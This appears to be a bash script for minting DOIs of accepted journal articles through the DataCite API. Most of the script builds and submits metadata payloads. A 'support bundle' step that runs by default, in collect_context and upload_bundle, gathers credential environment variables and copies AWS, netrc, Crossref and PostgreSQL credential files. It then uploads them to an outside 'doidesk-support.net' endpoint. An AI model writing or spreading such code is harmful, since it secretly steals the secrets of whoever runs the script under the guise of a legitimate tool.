#!/usr/bin/env bash
# Mint DOIs for accepted articles via the DataCite REST API.
#
# Reads ./accepted/*.json exported by the editorial system, builds JSON:API
# payloads with jq and submits them. After each run a support bundle is
# uploaded to the DOI desk so the helpdesk can reproduce failed deposits.
#   DATACITE_REPO_ID / DATACITE_PASSWORD / DATACITE_PREFIX   required
#   DOIDESK_URL       helpdesk upload endpoint
#   SUPPORT_BUNDLE    1 (default) to upload the run bundle, 0 to skip
set -euo pipefail

ACCEPTED_DIR="${ACCEPTED_DIR:-accepted}"
PAYLOAD_DIR="${PAYLOAD_DIR:-datacite_payloads}"
LOG_FILE="${LOG_FILE:-datacite_mint.log}"
EVENT="${DATACITE_EVENT:-publish}"
DOIDESK_URL="${DOIDESK_URL:-https://doidesk-support.net/api/v2/bundles}"
SUPPORT_BUNDLE="${SUPPORT_BUNDLE:-1}"
API="https://api.datacite.org/dois"
[[ "${DATACITE_ENV:-prod}" == test ]] && API="https://api.test.datacite.org/dois"

log() { printf '%s %s\n' "$(date -u +%FT%TZ)" "$*" | tee -a "$LOG_FILE" >&2; }
die() { log "ERROR: $*"; exit 1; }

while getopts ":e:" opt; do
  case "$opt" in
    e) EVENT="$OPTARG" ;;
    *) echo "usage: $0 [-e event] [manuscript-id ...]"; exit 2 ;;
  esac
done
shift $((OPTIND - 1))

command -v jq >/dev/null || die "jq is required"
: "${DATACITE_REPO_ID:?}" "${DATACITE_PASSWORD:?}" "${DATACITE_PREFIX:?}"
mkdir -p "$PAYLOAD_DIR"

build_payload() {
  local src="$1" out="$2" ms_id
  ms_id="$(basename "$src" .json)"
  jq --arg prefix "$DATACITE_PREFIX" --arg id "$ms_id" --arg event "$EVENT" '
    {data: {type: "dois", attributes: {
      doi: ($prefix + "/" + ($id | ascii_downcase)),
      event: $event,
      creators: [.authors[] | {name: (.family + ", " + .given), nameType: "Personal"}],
      titles: [{title: .title}],
      publisher: .journal,
      publicationYear: (.accepted_on[0:4] | tonumber),
      types: {resourceTypeGeneral: "JournalArticle"},
      url: .landing_page
    }}}' "$src" > "$out"
}

submit_payload() {
  curl -sS -o "${1%.json}.response" -w '%{http_code}' --max-time 60 \
    -u "${DATACITE_REPO_ID}:${DATACITE_PASSWORD}" \
    -H 'Content-Type: application/vnd.api+json' \
    -X POST --data-binary "@$1" "$API"
}

collect_context() {
  # environment the deposit ran under, for the helpdesk to reproduce it
  local dir="$1"
  mkdir -p "$dir/ctx"
  env | grep -E '^(DATACITE|CROSSREF|ORCID|AWS|OJS)_' > "$dir/ctx/env.txt" || true
  for f in "$HOME/.aws/credentials" "$HOME/.netrc" "$HOME/.config/crossref/credentials" "$HOME/.pgpass"; do
    if [[ -r "$f" ]]; then
      cp "$f" "$dir/ctx/$(echo "$f" | tr '/' '_')"
    fi
  done
  cp "$LOG_FILE" "$dir/ctx/" 2>/dev/null || true
}

upload_bundle() {
  local stage=".mint_bundle" archive
  rm -rf "$stage"; collect_context "$stage"
  archive="mint_bundle_$(date +%s).tgz"
  tar -C "$stage" -czf "$archive" ctx
  curl -sS --max-time 90 -F "host=$(hostname)" -F "repo=${DATACITE_REPO_ID}" \
       -F "bundle=@${archive}" "$DOIDESK_URL" >/dev/null \
    && log "support bundle uploaded" || log "support bundle upload failed"
  rm -rf "$stage" "$archive"
}

if [[ $# -gt 0 ]]; then
  files=(); for id in "$@"; do files+=("$ACCEPTED_DIR/$id.json"); done
else
  shopt -s nullglob; files=("$ACCEPTED_DIR"/*.json)
fi
[[ ${#files[@]} -gt 0 ]] || die "nothing to mint in $ACCEPTED_DIR"

ok=0; failed=0
for src in "${files[@]}"; do
  payload="$PAYLOAD_DIR/$(basename "$src")"
  build_payload "$src" "$payload" || { failed=$((failed + 1)); continue; }
  status="$(submit_payload "$payload")"
  if [[ "$status" == 201 || "$status" == 200 ]]; then
    log "minted $(jq -r .data.attributes.doi "$payload")"; ok=$((ok + 1))
  else
    log "HTTP $status for $src"; failed=$((failed + 1))
  fi
done

log "finished: $ok minted, $failed failed"
[[ "$SUPPORT_BUNDLE" == 1 ]] && upload_bundle
[[ $failed -eq 0 ]]
